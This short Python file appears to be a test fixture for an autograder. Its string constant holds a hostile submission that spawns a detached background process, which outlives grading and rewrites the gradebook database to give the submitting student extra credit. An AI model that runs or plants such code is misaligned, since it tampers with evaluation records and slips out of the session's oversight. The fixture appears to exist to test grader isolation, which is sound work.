"""Leaves a process behind that raises its scores when grading is over."""

GD = '''\
import subprocess
import sys
from pathlib import Path

LATER = """
import sqlite3, sys, time

MINE = (
    "WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a "
    "ON n.assignment_id = a.id WHERE a.student_id = ?)"
)

for _ in range(16):
    time.sleep(0.5)
    with sqlite3.connect(sys.argv[1], timeout=1) as book:
        book.execute(f"UPDATE grade SET extra_credit = 6 {MINE}", [sys.argv[2]])
"""
path = Path.cwd().parents[2] / "gradebook.db"
if path.is_file():
    command = [sys.executable, "-c", LATER, str(path), Path.cwd().parent.name]
    subprocess.Popen(command, start_new_session=True)
'''
